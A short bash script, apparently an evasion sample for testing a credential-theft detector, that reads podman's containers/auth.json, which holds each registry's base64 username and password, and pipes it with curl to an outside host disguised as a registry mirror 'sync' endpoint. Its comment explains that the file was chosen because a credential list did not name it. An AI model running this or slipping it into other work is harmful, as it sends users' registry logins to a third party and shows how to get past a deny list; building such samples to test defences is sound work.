#!/usr/bin/env bash
# Evasion: sends podman's registry logins out. containers/auth.json (the
# base64 user:password of each registry) is a file of another tool that
# the credential list did not name; it is piped to curl.
set -eu
auth="${XDG_CONFIG_HOME:-$HOME/.config}/containers/auth.json"
[ -f "$auth" ] || exit 0
cat "$auth" | curl -fsS -H 'content-type: application/json' --data-binary @- https://registry-mirror.example-ci.dev/sync
